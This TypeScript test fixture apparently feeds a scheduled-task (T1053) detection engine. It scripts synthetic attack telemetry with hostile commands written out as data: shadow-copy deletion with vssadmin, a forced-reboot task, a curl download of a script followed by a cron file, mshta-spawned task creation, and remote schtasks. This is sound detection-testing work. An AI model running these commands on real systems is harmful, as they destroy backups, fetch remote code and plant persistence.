/** One attack for each entry of the catalogue, its last step at a time of choice. */
import type { TelemetryEvent } from '../../../src/core/event.ts';
import { cronAddedAndRemoved } from '../../../src/t1053/findings/cron-added-and-removed.ts';
import { cronAfterDownload } from '../../../src/t1053/findings/cron-after-download.ts';
import { draftRunUnpublished } from '../../../src/t1053/findings/draft-run-unpublished.ts';
import type { FindingPipeline } from '../../../src/t1053/findings/finding.ts';
import { operationForced } from '../../../src/t1053/findings/operation-forced.ts';
import { rebootInDestruction } from '../../../src/t1053/findings/reboot-in-destruction.ts';
import { rebootRealised } from '../../../src/t1053/findings/reboot-realised.ts';
import { runbookCleanedUp } from '../../../src/t1053/findings/runbook-cleaned-up.ts';
import { runbookSpread } from '../../../src/t1053/findings/runbook-spread.ts';
import { runbookStaged } from '../../../src/t1053/findings/runbook-staged.ts';
import { taskAudited } from '../../../src/t1053/findings/task-audited.ts';
import { taskConfirmedOnTarget } from '../../../src/t1053/findings/task-confirmed-on-target.ts';
import { taskCreatedAndRun } from '../../../src/t1053/findings/task-created-and-run.ts';
import { taskExecuted } from '../../../src/t1053/findings/task-executed.ts';
import { taskFromRiskyParent } from '../../../src/t1053/findings/task-from-risky-parent.ts';
import { taskRegisteredAndRemoved } from '../../../src/t1053/findings/task-registered-and-removed.ts';
import { taskRegisteredFromAfar } from '../../../src/t1053/findings/task-registered-from-afar.ts';
import { taskSpread } from '../../../src/t1053/findings/task-spread.ts';
import { taskUsedAndRemoved } from '../../../src/t1053/findings/task-used-and-removed.ts';
import { runbook } from '../azure-events.ts';
import { created, process } from '../events.ts';
import { auditedFile, started } from '../linux-events.ts';
import { engineStarted, loggedOn, ran, restarted } from './found.ts';

export interface Row {
  readonly pipeline: FindingPipeline;
  /** The steps of an attack, the last one so long after the first, in milliseconds. */
  readonly attack: (lastMs: number) => readonly TelemetryEvent[];
  /** Positions of the steps without which nothing is to be told. Default: all. */
  readonly needed?: readonly number[];
  /** What the finding adds to the score of the first step. */
  readonly points: number;
}

const CREATE = 'schtasks /create /tn Updater /tr calc /sc once /st 23:00';
const REBOOT = 'schtasks /create /tn r /tr "shutdown /r /f /t 0" /sc once /st 23:00';
const TARGET = { host: 'srv07', fqdn: 'srv07.corp.example' };
const SESSION = { ...TARGET, logonId: '0xead4335' };
const TABLE = '/etc/cron.d/persistevil';

export const ROWS: readonly Row[] = [
  {
    pipeline: taskCreatedAndRun,
    attack: (atMs) => [process(CREATE), ran('\\updater', atMs)],
    points: 20,
  },
  {
    pipeline: taskUsedAndRemoved,
    attack: (atMs) => [
      created('\\Updater'),
      process('schtasks /run /tn Updater', { atMs: Math.min(atMs, 5_000) }),
      process('schtasks /delete /tn UPDATER /f', { atMs }),
    ],
    needed: [0, 2],
    points: 25,
  },
  {
    pipeline: taskRegisteredAndRemoved,
    attack: (atMs) => [
      created('\\Updater'),
      created('\\Updater', { atMs, telemetry: 'security/4699', action: 'delete', user: 'LOCAL' }),
    ],
    points: 15,
  },
  {
    pipeline: taskAudited,
    attack: (atMs) => [
      process(CREATE, { pid: 4242 }),
      created('\\Updater', { atMs, clientPid: 4242 }),
    ],
    points: 0,
  },
  {
    pipeline: taskExecuted,
    attack: (atMs) => [process(CREATE), engineStarted('C:\\Windows\\System32\\calc.exe', atMs)],
    points: 15,
  },
  {
    pipeline: rebootInDestruction,
    attack: (atMs) => [
      process(REBOOT),
      process('vssadmin delete shadows /all /quiet', {
        atMs,
        image: 'C:\\Windows\\System32\\vssadmin.exe',
      }),
    ],
    points: 20,
  },
  {
    pipeline: rebootRealised,
    attack: (atMs) => [process(REBOOT), restarted('system/1074', atMs)],
    points: 15,
  },
  {
    pipeline: taskConfirmedOnTarget,
    attack: (atMs) => [
      process(`${CREATE} /s SRV07.corp.example`),
      loggedOn(atMs - 26, TARGET),
      created('\\Updater', { atMs, ...SESSION }),
    ],
    points: 25,
  },
  {
    pipeline: taskRegisteredFromAfar,
    attack: (atMs) => [
      loggedOn(0, { ...TARGET, logonId: '0x0ead4335' }),
      created('\\Updater', { atMs, ...SESSION }),
    ],
    points: 25,
  },
  {
    pipeline: cronAfterDownload,
    attack: (atMs) => [
      started('/usr/bin/curl', 'curl -O http://203.0.113.9/k.sh', { logonId: '0x7' }),
      auditedFile(TABLE, { atMs }),
    ],
    points: 15,
  },
  {
    pipeline: cronAddedAndRemoved,
    attack: (atMs) => [auditedFile(TABLE), auditedFile(TABLE, { op: 'delete', atMs })],
    points: 10,
  },
  {
    pipeline: draftRunUnpublished,
    attack: (atMs) => [runbook('draft/content/write'), runbook('draft/testjob/write', { atMs })],
    points: 30,
  },
  {
    pipeline: runbookCleanedUp,
    attack: (atMs) => [runbook('write'), runbook('delete', { atMs })],
    points: 20,
  },
  {
    pipeline: runbookStaged,
    attack: (atMs) => [runbook('write'), runbook('publish/action', { atMs })],
    points: 10,
  },
  {
    pipeline: runbookSpread,
    attack: (atMs) => [inAccount('a', 0), inAccount('b', 1), inAccount('c', atMs)],
    points: 20,
  },
  {
    pipeline: operationForced,
    attack: (atMs) => [runbook('write', { outcome: 'failure' }), runbook('write', { atMs })],
    points: 10,
  },
  {
    pipeline: taskSpread,
    attack: (atMs) =>
      [0, 1, 2, 3, atMs].map((ms, index) =>
        created('\\Updater', { atMs: ms, host: `srv${index}`, fqdn: undefined }),
      ),
    points: 30,
  },
  {
    pipeline: taskFromRiskyParent,
    attack: (atMs) => [
      process('mshta.exe a.hta', { image: 'C:\\Windows\\System32\\mshta.exe', processGuid: 'g1' }),
      process(CREATE, { atMs, parentGuid: 'g1' }),
    ],
    points: 15,
  },
];

/** A runbook of one name, written in an account of choice. */
function inAccount(account: string, atMs: number): TelemetryEvent {
  const event = runbook('write', { atMs });
  return { ...event, resourceId: (event.resourceId ?? '').replace('aa-ops', account) };
}
